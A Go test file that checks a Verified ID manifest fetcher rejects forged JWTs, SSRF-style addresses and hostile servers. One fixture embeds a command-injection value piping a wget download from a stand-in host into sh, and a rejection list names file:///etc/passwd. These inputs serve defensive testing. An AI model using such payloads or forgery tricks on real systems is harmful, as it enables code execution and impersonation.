// SPDX-License-Identifier: Apache-2.0

package contract

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/caddy-verified-id/caddy-verified-id/internal/patience"
)

// issuer serves its own DID document and a manifest, as tests have it.
type issuer struct {
	*httptest.Server
	t        *testing.T
	did      string
	key      *ecdsa.PrivateKey
	document map[string]any
	manifest http.HandlerFunc
	fetcher  *Fetcher
}

func newIssuer(t *testing.T) *issuer {
	t.Helper()
	i := &issuer{t: t}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /.well-known/did.json", func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(i.document) })
	mux.HandleFunc("GET /manifest", func(w http.ResponseWriter, r *http.Request) { i.manifest(w, r) })
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("asked for %s", r.URL)
		http.NotFound(w, r)
	})
	i.Server = httptest.NewTLSServer(mux)
	t.Cleanup(i.Close)
	u, err := url.Parse(i.URL)
	if err != nil {
		t.Fatal(err)
	}
	i.did = "did:web:" + strings.ReplaceAll(u.Host, ":", "%3A")
	if i.key, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader); err != nil {
		t.Fatal(err)
	}
	i.document = i.documentOf(i.key)
	roots := x509.NewCertPool()
	roots.AddCert(i.Certificate())
	i.fetcher = NewFetcher(roots, true)
	i.answer(i.token(i.claims(), jwt.SigningMethodES256, i.key, i.did+"#key"))
	return i
}

func (i *issuer) documentOf(key *ecdsa.PrivateKey) map[string]any {
	point, err := key.PublicKey.Bytes()
	if err != nil {
		i.t.Fatal(err)
	}
	return map[string]any{
		"id": i.did, "assertionMethod": []string{"#key"},
		"verificationMethod": []any{
			map[string]any{"id": "#key", "type": "JsonWebKey2020", "publicKeyJwk": map[string]any{
				"kty": "EC", "crv": "P-256",
				"x": base64.RawURLEncoding.EncodeToString(point[1:33]), "y": base64.RawURLEncoding.EncodeToString(point[33:]),
			}},
			map[string]any{"id": "#other", "type": "JsonWebKey2020", "publicKeyJwk": map[string]any{"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}},
		},
	}
}

func (i *issuer) claims() jwt.MapClaims {
	return jwt.MapClaims{
		"id": "VerifiedIdentity", "iss": i.did, "iat": time.Now().Unix(),
		"input": map[string]any{"issuer": i.did},
		"display": map[string]any{
			"card":   map[string]any{"title": "Verified identity", "issuedBy": "Fabrikam"},
			"claims": map[string]any{"vc.credentialSubject.portrait": map[string]any{}, "vc.credentialSubject.firstName": map[string]any{}},
		},
	}
}

func (i *issuer) token(claims jwt.MapClaims, method jwt.SigningMethod, key any, kid string) string {
	i.t.Helper()
	token := jwt.NewWithClaims(method, claims)
	token.Header["kid"] = kid
	signed, err := token.SignedString(key)
	if err != nil {
		i.t.Fatal(err)
	}
	return signed
}

func (i *issuer) answer(token string) {
	i.manifest = func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintf(w, `{"token": %q}`, token) }
}

func (i *issuer) get() (*Contract, error) { return i.fetcher.Get(i.t.Context(), i.URL+"/manifest") }

// The manifest of an issuer whose DID document is there says type, issuer and claims, and its digest does not follow the clock.
func TestManifestIsVerified(t *testing.T) {
	t.Parallel()
	i := newIssuer(t)
	said, err := i.get()
	if err != nil {
		t.Fatal(err)
	}
	if said.Type != "VerifiedIdentity" || said.Issuer != i.did || !said.Verified || strings.Join(said.Claims, " ") != "firstName portrait" || said.IssuedBy != "Fabrikam" {
		t.Errorf("it says %+v", said)
	}
	claims := i.claims()
	claims["iat"] = 1
	i.answer(i.token(claims, jwt.SigningMethodES256, i.key, i.did+"#key"))
	later, err := i.get()
	if err != nil || later.Digest != said.Digest {
		t.Errorf("another time gives %+v, %v", later, err)
	}
}

// Somebody between us and the manifest, or at its host, gives us another issuer's: signed by nobody, by an HMAC with the
// public key, by a key of the document that is not for statements, by another's key. RFC 8725; TM-153.
func TestForgedManifestIsRefused(t *testing.T) {
	t.Parallel()
	stranger, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	for name, forge := range map[string]func(i *issuer) string{
		"none": func(i *issuer) string {
			return i.token(i.claims(), jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, i.did+"#key")
		},
		"HMAC with the key": func(i *issuer) string {
			point, _ := i.key.PublicKey.Bytes()
			return i.token(i.claims(), jwt.SigningMethodHS256, point, i.did+"#key")
		},
		"stranger's key":     func(i *issuer) string { return i.token(i.claims(), jwt.SigningMethodES256, stranger, i.did+"#key") },
		"key for other uses": func(i *issuer) string { return i.token(i.claims(), jwt.SigningMethodES256, i.key, i.did+"#other") },
		"unknown key":        func(i *issuer) string { return i.token(i.claims(), jwt.SigningMethodES256, i.key, i.did+"#nothing") },
		"key of another DID": func(i *issuer) string {
			return i.token(i.claims(), jwt.SigningMethodES256, stranger, "did:web:mallory.example#key")
		},
		"no key id": func(i *issuer) string { return i.token(i.claims(), jwt.SigningMethodES256, i.key, "") },
		"two issuers": func(i *issuer) string {
			claims := i.claims()
			claims["input"] = map[string]any{"issuer": "did:web:mallory.example"}
			return i.token(claims, jwt.SigningMethodES256, i.key, i.did+"#key")
		},
		"type of all": func(i *issuer) string {
			claims := i.claims()
			claims["id"] = "VerifiableCredential"
			return i.token(claims, jwt.SigningMethodES256, i.key, i.did+"#key")
		},
		"issuer no DID": func(i *issuer) string {
			claims := i.claims()
			claims["iss"] = "https://mallory.example"
			return i.token(claims, jwt.SigningMethodES256, i.key, "https://mallory.example#key")
		},
		"issuer for a shell": func(i *issuer) string {
			claims := i.claims()
			claims["iss"] = "did:x:a;wget$IFS-qO-$IFS$9mallory.example|sh"
			return i.token(claims, jwt.SigningMethodES256, i.key, "did:x:a;wget$IFS-qO-$IFS$9mallory.example|sh#key")
		},
		"changed content": func(i *issuer) string {
			parts := strings.Split(i.token(i.claims(), jwt.SigningMethodES256, i.key, i.did+"#key"), ".")
			claims := i.claims()
			claims["id"] = "VerifiedEmployee"
			other := strings.Split(i.token(claims, jwt.SigningMethodES256, stranger, i.did+"#key"), ".")
			return parts[0] + "." + other[1] + "." + parts[2]
		},
		"no token": func(*issuer) string { return "" },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			i := newIssuer(t)
			i.answer(forge(i))
			if said, err := i.get(); said != nil || !errors.Is(err, ErrManifest) || errors.Is(err, ErrUnresolved) {
				t.Errorf("got %+v, %v", said, err)
			}
		})
	}
	t.Run("document of another", func(t *testing.T) {
		t.Parallel()
		i := newIssuer(t)
		i.document["id"] = "did:web:mallory.example"
		if said, err := i.get(); said != nil || !errors.Is(err, ErrManifest) {
			t.Errorf("got %+v, %v", said, err)
		}
	})
}

// A manifest's host that turns hostile sends us into our own network, or keeps us busy: TM-152, CVE-2024-21498.
func TestHostileManifestServerLeadsNowhere(t *testing.T) {
	t.Parallel()
	for name, answer := range map[string]http.HandlerFunc{
		"redirect": func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/inside", http.StatusFound) },
		"huge": func(w http.ResponseWriter, _ *http.Request) {
			for range 2 * maxManifest / 1024 {
				if _, err := w.Write(make([]byte, 1024)); err != nil {
					return
				}
			}
		},
		"error":   func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", http.StatusInternalServerError) },
		"no JSON": func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "<html>") },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			i := newIssuer(t)
			i.manifest = answer
			if said, err := i.get(); said != nil || err == nil {
				t.Errorf("got %+v, %v", said, err)
			}
		})
	}
	t.Run("slow", func(t *testing.T) {
		t.Parallel()
		i := newIssuer(t)
		ctx, end := context.WithCancel(t.Context())
		ended := make(chan struct{})
		i.manifest = func(_ http.ResponseWriter, r *http.Request) {
			end() // once it has come this far: a machine that is busy may take its time
			<-r.Context().Done()
			close(ended)
		}
		if said, err := i.fetcher.Get(ctx, i.URL+"/manifest"); said != nil || !errors.Is(err, context.Canceled) {
			t.Errorf("got %+v, %v", said, err)
		}
		<-ended
		if i.fetcher.client.Timeout != patience.ManifestFetch {
			t.Error("a fetch has no end of its own")
		}
	})
	t.Run("private address", func(t *testing.T) {
		t.Parallel()
		i := newIssuer(t)
		i.manifest = func(http.ResponseWriter, *http.Request) { t.Error("it has been connected to") }
		strict := NewFetcher(nil, false)
		for _, address := range []string{i.URL + "/manifest", strings.Replace(i.URL, "127.0.0.1", "localhost", 1) + "/manifest"} {
			if said, err := strict.Get(t.Context(), address); said != nil || err == nil || !strings.Contains(err.Error(), "no public address") {
				t.Errorf("%s: got %+v, %v", address, said, err)
			}
		}
	})
}

// An issuer whose document cannot be had is told from one whose signature is wrong: the first may be behind a host that is not
// there, the second is never taken.
func TestIssuerWithoutDocumentIsNotVerified(t *testing.T) {
	t.Parallel()
	for _, did := range []string{"did:ion:EiD3DIbDgBCajj2zCkE48x74FKTV9_Dcu1u_imzZddDKfg", "did:web:nowhere.invalid"} {
		i := newIssuer(t)
		claims := i.claims()
		claims["iss"], claims["input"] = did, map[string]any{"issuer": did}
		i.answer(i.token(claims, jwt.SigningMethodES256, i.key, did+"#key"))
		said, err := i.get()
		if said == nil || !errors.Is(err, ErrUnresolved) || said.Verified || said.Issuer != did {
			t.Errorf("%s: got %+v, %v", did, said, err)
		}
	}
}

// Names that lead into the operator's own network are refused at the moment of connecting, in every spelling of the address.
func TestOnlyPublicAddressesAreConnectedTo(t *testing.T) {
	t.Parallel()
	for address, public := range map[string]bool{
		"20.190.160.1:443": true, "[2603:1020::1]:443": true,
		"127.0.0.1:443": false, "[::1]:443": false, "10.0.0.1:443": false, "172.16.0.1:443": false, "192.168.1.1:443": false,
		"169.254.169.254:80": false, "[fe80::1]:443": false, "[fd00::1]:443": false, "0.0.0.0:443": false, "[::]:443": false,
		"100.64.0.1:443": false, "[::ffff:10.0.0.1]:443": false, "[64:ff9b::a00:1]:443": false, "[2002:a00:1::]:443": false,
		"224.0.0.1:443": false, "255.255.255.255:443": false, "198.18.0.1:443": false, "[::7f00:1]:443": false,
	} {
		if err := checkAddress(address, false); (err == nil) != public {
			t.Errorf("%s: %v", address, err)
		}
	}
	if checkAddress("127.0.0.1:443", true) != nil || checkAddress("10.0.0.1:443", true) == nil {
		t.Error("for trying, this machine's addresses are permitted, and no others")
	}
}

func TestAddressesThatAreNeverFetched(t *testing.T) {
	t.Parallel()
	for _, address := range []string{"", "manifest.json", "http://verifiedid.did.msidentity.com/x", "file:///etc/passwd", "https://user@host.example/", "https://host.example/#x", "http://127.0.0.1/"} {
		if CheckURL(address, false) == nil {
			t.Errorf("%q is taken", address)
		}
	}
	if CheckURL("http://127.0.0.1:8080/manifest", true) != nil || CheckURL("http://host.example/", true) == nil {
		t.Error("for trying, http is permitted on this machine, and nowhere else")
	}
}

func TestWhereADIDHasItsDocument(t *testing.T) {
	t.Parallel()
	for did, want := range map[string]string{
		"did:web:verifiedid.contoso.com":                     "https://verifiedid.contoso.com/.well-known/did.json",
		"did:web:localhost%3A8443":                           "https://localhost:8443/.well-known/did.json",
		"did:web:verifiedid.entra.microsoft.com:tenant:auth": "https://verifiedid.entra.microsoft.com/tenant/auth/did.json",
		"did:web:a.example:..":                               "",
		"did:web:a.example%2Fb":                              "",
		"did:web:user%40a.example":                           "",
		"did:web:a.example::b":                               "",
		"did:ion:x":                                          "",
	} {
		if got, err := didWebURL(did); got != want || (err == nil) != (want != "") {
			t.Errorf("%s: %q, %v", did, got, err)
		}
	}
}
